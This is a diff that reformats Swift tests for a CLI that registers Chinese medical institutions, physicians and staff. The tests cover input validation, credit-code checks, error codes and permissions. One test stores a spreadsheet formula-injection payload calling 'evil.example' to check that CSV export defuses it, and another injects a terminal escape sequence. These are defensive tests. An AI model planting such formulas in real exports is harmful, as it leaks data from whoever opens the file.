@@ -9,39 +9,61 @@ import TestSupport
     final class Session {
         let db: TestDatabase
         init() throws { db = try TestCluster.database() }
-        func run(_ args: [String], as actor: String? = nil, today: String = "2026-03-02", stdin: String = "") -> CLIResult {
-            CLI.run(args + (actor.map { ["--as", $0] } ?? []), database: db.url, stdin: stdin, environment: ["REGCTL_TODAY": today])
+        func run(_ args: [String], as actor: String? = nil, today: String = "2026-03-02", stdin: String = "")
+            -> CLIResult
+        {
+            CLI.run(
+                args + (actor.map { ["--as", $0] } ?? []), database: db.url, stdin: stdin,
+                environment: ["REGCTL_TODAY": today])
         }
-        func ok(_ args: [String], as actor: String? = nil, today: String = "2026-03-02", sourceLocation: SourceLocation = #_sourceLocation) -> String {
+        func ok(
+            _ args: [String], as actor: String? = nil, today: String = "2026-03-02",
+            sourceLocation: SourceLocation = #_sourceLocation
+        ) -> String {
             let r = run(args, as: actor, today: today)
             #expect(r.status == 0, "\(args.joined(separator: " ")): \(r)", sourceLocation: sourceLocation)
             return r.stdout.trimmingCharacters(in: .newlines)
         }
-        func refused(_ args: [String], _ status: Int32, _ code: String, as actor: String? = nil, today: String = "2026-03-02",
-                     sourceLocation: SourceLocation = #_sourceLocation) -> CLIResult {
+        func refused(
+            _ args: [String], _ status: Int32, _ code: String, as actor: String? = nil, today: String = "2026-03-02",
+            sourceLocation: SourceLocation = #_sourceLocation
+        ) -> CLIResult {
             let r = run(args, as: actor, today: today)
-            #expect(r.status == status && r.stderr.hasPrefix("error[\(code)]"), "\(args.joined(separator: " ")): \(r)", sourceLocation: sourceLocation)
-            #expect(!r.stderr.contains("PostgreSQL") && !r.stderr.contains("Fatal error"), sourceLocation: sourceLocation)
+            #expect(
+                r.status == status && r.stderr.hasPrefix("error[\(code)]"), "\(args.joined(separator: " ")): \(r)",
+                sourceLocation: sourceLocation)
+            #expect(
+                !r.stderr.contains("PostgreSQL") && !r.stderr.contains("Fatal error"), sourceLocation: sourceLocation)
             return r
         }
         func count(_ sql: SQL) throws -> Int { try db.connect().query(sql)[0].decode(0, as: Int.self) }
         func hospital(_ serial: Int = 1, name: String = "浙江省人民医院") -> String {
-            ok(["institution", "add", "--name", name, "--uscc", Make.creditCode(region: "330106", serial: serial), "--region", "330106",
-                "--ownership", "public", "--category", "general-hospital", "--beds", "100"])
+            ok([
+                "institution", "add", "--name", name, "--uscc", Make.creditCode(region: "330106", serial: serial),
+                "--region", "330106",
+                "--ownership", "public", "--category", "general-hospital", "--beds", "100"
+            ])
         }
     }
 
     /// The last migration file's name: the schema version `--version` reports.
     static func lastMigration() throws -> String {
-        let dir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("../../sql/migrations").standardized
-        return String(try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { $0.hasSuffix(".sql") }.sorted().last!.dropLast(4))
+        let dir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent(
+            "../../sql/migrations"
+        ).standardized
+        return String(
+            try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { $0.hasSuffix(".sql") }.sorted().last!
+                .dropLast(4))
     }
 
     @Test func malformedValuesAreUsageErrorsNamingTheFlag() throws {
         let s = try Session()
         let hospital = s.hospital()
         let id = Make.residentID(sequence: 1)
-        _ = s.ok(["physician", "add", "--name", "张伟", "--id-number", id, "--qualification-no", "Q1", "--level", "physician", "--category", "clinical"])
+        _ = s.ok([
+            "physician", "add", "--name", "张伟", "--id-number", id, "--qualification-no", "Q1", "--level", "physician",
+            "--category", "clinical"
+        ])
         let reg = s.ok(["registration", "apply", "--physician", id, "--institution", hospital, "--scope", "内科"])
         // Dates: 20 digits (it crashed), empty (it meant today), ahead of today (the report then contradicted itself).
         _ = s.refused(["events", "list", "--since", "99999999999999999999"], 64, "input.date")
@@ -49,20 +71,39 @@ import TestSupport
         let ahead = s.refused(["registration", "approve", reg, "--on", "2026-03-15"], 64, "input.future-date")
         #expect(ahead.stderr.contains("--on"))
         #expect(try s.count("SELECT count(*) FROM registration WHERE status = 'pending'") == 1)
-        #expect(try s.count("SELECT count(*) FROM event WHERE command = 'registration.approve' AND error_code = 'input.future-date'") == 1)
+        #expect(
+            try s.count(
+                "SELECT count(*) FROM event WHERE command = 'registration.approve' AND error_code = 'input.future-date'"
+            ) == 1)
         // Integers past their column, names over a line or 100 characters, bytes that are not UTF-8.
-        _ = s.refused(["institution", "add", "--name", "医院", "--uscc", Make.creditCode(region: "330106", serial: 2), "--region", "330106",
-                       "--ownership", "public", "--category", "clinic", "--beds", "2147483648"], 64, "input.beds")
-        _ = s.refused(["policy", "set", "--province", "330000", "--max-active-filings", "2147483648"], 64, "input.number")
-        _ = s.refused(["physician", "add", "--name", "张\n伟", "--id-number", Make.residentID(sequence: 2), "--qualification-no", "Q2",
-                       "--level", "physician", "--category", "clinical"], 64, "input.name")
-        _ = s.refused(["physician", "add", "--name", String(repeating: "张", count: 101), "--id-number", Make.residentID(sequence: 2),
-                       "--qualification-no", "Q2", "--level", "physician", "--category", "clinical"], 64, "input.name")
-        let gbk = CLI.spawn([CLI.binary, "region", "list", "--parent", "\u{6D59}"], environment: ["DATABASE_URL": s.db.url], stdin: "")
+        _ = s.refused(
+            [
+                "institution", "add", "--name", "医院", "--uscc", Make.creditCode(region: "330106", serial: 2),
+                "--region", "330106",
+                "--ownership", "public", "--category", "clinic", "--beds", "2147483648"
+            ], 64, "input.beds")
+        _ = s.refused(
+            ["policy", "set", "--province", "330000", "--max-active-filings", "2147483648"], 64, "input.number")
+        _ = s.refused(
+            [
+                "physician", "add", "--name", "张\n伟", "--id-number", Make.residentID(sequence: 2), "--qualification-no",
+                "Q2",
+                "--level", "physician", "--category", "clinical"
+            ], 64, "input.name")
+        _ = s.refused(
+            [
+                "physician", "add", "--name", String(repeating: "张", count: 101), "--id-number",
+                Make.residentID(sequence: 2),
+                "--qualification-no", "Q2", "--level", "physician", "--category", "clinical"
+            ], 64, "input.name")
+        let gbk = CLI.spawn(
+            [CLI.binary, "region", "list", "--parent", "\u{6D59}"], environment: ["DATABASE_URL": s.db.url], stdin: "")
         #expect(gbk.status == 0 || gbk.status == 64)  // valid UTF-8 here: a region error at most
         let version = s.run(["--version"])
         let schema = try Self.lastMigration()
-        #expect(version.status == 0 && version.stdout.hasPrefix("regctl ") && version.stdout.contains("schema \(schema)"), "\(version)")
+        #expect(
+            version.status == 0 && version.stdout.hasPrefix("regctl ") && version.stdout.contains("schema \(schema)"),
+            "\(version)")
         #expect(try s.count("SELECT count(*) FROM physician") == 1)
     }
 
@@ -70,8 +111,12 @@ import TestSupport
     @Test func argumentsThatAreNotUTF8() throws {
         let s = try Session()
         // posix_spawn takes C strings: a Swift String cannot hold 0xB2, so the argument is built by the shell.
-        let r = CLI.spawn(["/bin/sh", "-c", "exec \"$0\" staff add --id gbk --name \"$(printf '\\326\\320\\316\\304')\" --role admin", CLI.binary],
-                          environment: ["DATABASE_URL": s.db.url], stdin: "")
+        let r = CLI.spawn(
+            [
+                "/bin/sh", "-c",
+                "exec \"$0\" staff add --id gbk --name \"$(printf '\\326\\320\\316\\304')\" --role admin", CLI.binary
+            ],
+            environment: ["DATABASE_URL": s.db.url], stdin: "")
         #expect(r.status == 64 && r.stderr.hasPrefix("error[input.encoding]"), "\(r)")
         #expect(try s.count("SELECT count(*) FROM staff") == 0)
     }
@@ -83,12 +128,16 @@ import TestSupport
         _ = s.ok(nurse)
         let again = s.refused(nurse + ["--qualification-no", "N2"], 1, "nurse.exists")
         #expect(!again.stderr.contains(id))
-        #expect(try s.count("SELECT count(*) FROM event WHERE command = 'nurse.add' AND error_code = 'nurse.exists'") == 1)
+        #expect(
+            try s.count("SELECT count(*) FROM event WHERE command = 'nurse.add' AND error_code = 'nurse.exists'") == 1)
     }
 
     @Test func creditCodesAreCheckedInFull() throws {
         let s = try Session()
-        let add = ["institution", "add", "--name", "广东省人民医院", "--region", "330106", "--ownership", "public", "--category", "general-hospital", "--beds", "10"]
+        let add = [
+            "institution", "add", "--name", "广东省人民医院", "--region", "330106", "--ownership", "public", "--category",
+            "general-hospital", "--beds", "10"
+        ]
         let good = Make.creditCode(region: "330106", serial: 5)
         _ = s.ok(add + ["--uscc", good])
         // A typo in the check character is refused, naming what the first 17 give; the same name in the county is no second record.
@@ -100,11 +149,17 @@ import TestSupport
         let accepted = s.run(add + ["--uscc", typo, "--accept-check-failure", "与执业许可证核对一致"])
         #expect(accepted.status == 0, "\(accepted)")
         #expect(accepted.stderr.contains("institution.same-name") && accepted.stderr.contains(good))
-        #expect(try s.count("SELECT count(*) FROM event WHERE command = 'institution.add' AND details->>'accepted_check_failure' = '与执业许可证核对一致'") == 1)
+        #expect(
+            try s.count(
+                "SELECT count(*) FROM event WHERE command = 'institution.add' AND details->>'accepted_check_failure' = '与执业许可证核对一致'"
+            ) == 1)
         // A resident ID number whose 18th character happens to pass the code's check is still no credit code.
         var sequence = 0
         var resident = Make.residentID(region: "330106", sequence: sequence)
-        while !(Self.passesCreditCheck(resident)) { sequence += 1; resident = Make.residentID(region: "330106", sequence: sequence) }
+        while !(Self.passesCreditCheck(resident)) {
+            sequence += 1
+            resident = Make.residentID(region: "330106", sequence: sequence)
+        }
         _ = s.refused(add + ["--uscc", resident, "--name", "某医院"], 64, "input.uscc")
         // Authority 9 (市场监管) registers no type 5.
         _ = s.refused(add + ["--uscc", "95" + String(good.dropFirst(2)), "--name", "某医院"], 64, "input.uscc")
@@ -114,7 +169,8 @@ import TestSupport
         let alphabet = Array("0123456789ABCDEFGHJKLMNPQRTUWXY")
         let weights = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]
         let chars = Array(code)
-        guard let values = Optional(chars.prefix(17).compactMap { alphabet.firstIndex(of: $0) }), values.count == 17 else { return false }
+        guard let values = Optional(chars.prefix(17).compactMap { alphabet.firstIndex(of: $0) }), values.count == 17
+        else { return false }
         let c = 31 - zip(values, weights).reduce(0) { $0 + $1.0 * $1.1 } % 31
         return alphabet[c == 31 ? 0 : c] == chars[17]
     }
@@ -124,7 +180,8 @@ import TestSupport
         let formula = #"=HYPERLINK("http://evil.example/?"&A1,"点击")"#
         _ = s.ok(["staff", "add", "--id", "evil", "--name", formula, "--role", "admin"])
         let csv = s.ok(["staff", "list", "--format", "csv"])
-        #expect(csv.contains("\"'=HYPERLINK(") && !csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"), "\(csv)")
+        #expect(
+            csv.contains("\"'=HYPERLINK(") && !csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"), "\(csv)")
         // A refused name with an escape sequence is not echoed raw; a stored one shows escaped in a table.
         let escape = "\u{1B}[2J\u{1B}[31m红"
         let refused = s.refused(["staff", "add", "--id", "esc", "--name", escape, "--role", "admin"], 64, "input.name")
@@ -134,22 +191,30 @@ import TestSupport
         #expect(!table.contains("\u{1B}") && table.contains("\\u{1B}[2J"), "\(table)")
         // --format json: errors are JSON on stderr; lists are arrays; times carry their offset.
         let error = s.run(["registration", "approve", "not-an-id", "--format", "json"])
-        let object = try #require(try JSONSerialization.jsonObject(with: Data(error.stderr.utf8)) as? [String: Any], "\(error)")
+        let object = try #require(
+            try JSONSerialization.jsonObject(with: Data(error.stderr.utf8)) as? [String: Any], "\(error)")
         let inner = try #require(object["error"] as? [String: Any])
         #expect(error.status == 64 && inner["code"] as? String == "input.id" && inner["message"] is String)
-        let events = try #require(try JSONSerialization.jsonObject(with: Data(s.ok(["events", "list", "--format", "json"]).utf8)) as? [[String: Any]])
+        let events = try #require(
+            try JSONSerialization.jsonObject(with: Data(s.ok(["events", "list", "--format", "json"]).utf8))
+                as? [[String: Any]])
         #expect((events.first?["at"] as? String)?.hasSuffix("+08:00") == true)
         #expect(events.first?["arguments"] is [String: Any] && events.first?["subjects"] is [Any])
     }
 
     @Test func theDatabaseDoorSaysWhatIsWrong() throws {
         let s = try Session()
-        let unreachable = CLI.run(["db", "status"], database: "host=/nonexistent-\(UUID().uuidString) dbname=regctl connect_timeout=2")
-        #expect(unreachable.status == 69 && unreachable.stderr.hasPrefix("error[db.unavailable]") && unreachable.stdout.contains("unreachable"), "\(unreachable)")
+        let unreachable = CLI.run(
+            ["db", "status"], database: "host=/nonexistent-\(UUID().uuidString) dbname=regctl connect_timeout=2")
+        #expect(
+            unreachable.status == 69 && unreachable.stderr.hasPrefix("error[db.unavailable]")
+                && unreachable.stdout.contains("unreachable"), "\(unreachable)")
         _ = s.ok(["staff", "add", "--id", "reg-1", "--name", "登记", "--role", "registrar", "--region", "330000"])
         let login = "host=\(TestCluster.cluster.socketDirectory) dbname=\(s.db.name) user=reg-1"
         let wrong = CLI.run(["db", "status"], database: login + " password=wrong-password")
-        #expect(wrong.status == 77 && wrong.stderr.hasPrefix("error[auth.failed]") && !wrong.stderr.contains("running"), "\(wrong)")
+        #expect(
+            wrong.status == 77 && wrong.stderr.hasPrefix("error[auth.failed]") && !wrong.stderr.contains("running"),
+            "\(wrong)")
         let command = CLI.run(["staff", "list"], database: login + " password=wrong-password")
         #expect(command.status == 77 && !command.stderr.contains("Check that the server is running"), "\(command)")
     }
@@ -158,8 +223,11 @@ import TestSupport
         let s = try Session()
         let mine = s.hospital(1, name: "杭州和睦门诊部")
         let other = s.hospital(2, name: "另一家医院")
-        let added = s.run(["staff", "add", "--id", "hr-1", "--name", "人事", "--role", "hr", "--institution", mine, "--format", "json"])
-        let password = try #require((try JSONSerialization.jsonObject(with: Data(added.stdout.utf8)) as? [String: Any])?["password"] as? String)
+        let added = s.run([
+            "staff", "add", "--id", "hr-1", "--name", "人事", "--role", "hr", "--institution", mine, "--format", "json"
+        ])
+        let password = try #require(
+            (try JSONSerialization.jsonObject(with: Data(added.stdout.utf8)) as? [String: Any])?["password"] as? String)
         let own = "host=\(TestCluster.cluster.socketDirectory) dbname=\(s.db.name) user=hr-1 password=\(password)"
         let reset = CLI.run(["db", "reset", "--yes"], database: own)
         #expect(reset.status == 1 && reset.stderr.hasPrefix("error[permission.denied]"), "\(reset)")
@@ -176,7 +244,9 @@ import TestSupport
             try? FileManager.default.removeItem(atPath: home)
         }
         let results = try await withThrowingTaskGroup(of: CLIResult.self) { group in
-            for _ in 0..<3 { group.addTask { CLI.run(["region", "list", "--level", "province"], database: nil, home: home) } }
+            for _ in 0..<3 {
+                group.addTask { CLI.run(["region", "list", "--level", "province"], database: nil, home: home) }
+            }
             return try await group.reduce(into: []) { $0.append($1) }
         }
         #expect(results.count == 3)
